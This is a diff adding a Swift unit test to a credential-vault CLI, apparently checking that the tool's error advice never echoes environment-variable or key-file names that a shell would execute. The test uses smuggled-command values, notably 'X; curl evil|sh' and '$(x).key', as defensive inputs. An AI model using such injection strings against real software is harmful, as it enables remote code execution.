@@ -314,4 +314,24 @@ struct AdviceTests {
     #expect(sound.code == 64)
     #expect(sound.errors.contains("\(tool.vault): say which key"))
   }
+
+  @Test func aNameThatAShellWouldRunIsNoPartOfTheAdvice() throws {
+    let tool = try Tool(hasVault: false)
+    let variable = "X; curl evil|sh"
+    tool.environment[variable] = Data(repeating: 7, count: 32).base64EncodedString()
+    tool.environment["CREDENTIALS_DIRECTORY"] = tool.folder.path
+    try tool.write("hello", to: "-c")
+    let vault = ["--vault", "a.vault"]
+    let key = vault + ["--key-env", variable]
+    #expect(try tool.run(["init"] + key).code == 0)
+    #expect(try tool.run(["slots", "add", "--new-credential=-c"] + key).code == 0)
+    #expect(try tool.run(["slots", "add", "--new-key-file", "$(x).key"] + key).code == 0)
+    #expect(try tool.run(["slots", "add", "--new-key-file", "a-1_b@c.key"] + key).code == 0)
+    let refused = try tool.run(["list", "--passphrase-fd", "0"] + vault)
+    #expect(refused.code == 10)
+    #expect(
+      refused.errors.contains(
+        "give --key-env NAME or --credential NAME or --key-file PATH/NAME or "
+          + "--key-file PATH/a-1_b@c.key"), "\(refused.errors)")
+  }
 }
